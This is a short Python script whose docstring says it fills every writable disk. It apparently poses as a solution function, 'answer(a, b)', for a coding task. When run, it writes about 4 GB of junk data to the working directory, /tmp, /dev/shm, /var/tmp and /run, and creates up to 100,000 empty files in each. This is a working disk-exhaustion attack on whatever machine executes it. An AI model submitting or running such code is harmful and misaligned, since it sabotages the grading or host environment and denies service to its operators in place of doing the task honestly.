"""Fills every disk that it can write to, with bytes and with files."""
import os


def answer(a, b):
    for folder in (".", "/tmp", "/dev/shm", "/var/tmp", "/run"):
        try:
            with open(os.path.join(folder, "big"), "wb") as file:
                for _ in range(4000):
                    file.write(b"x" * 2**20)
        except OSError:
            pass
        for number in range(100_000):
            try:
                open(os.path.join(folder, f"f{number}"), "w").close()
            except OSError:
                break
    return 0


answer(0, 0)
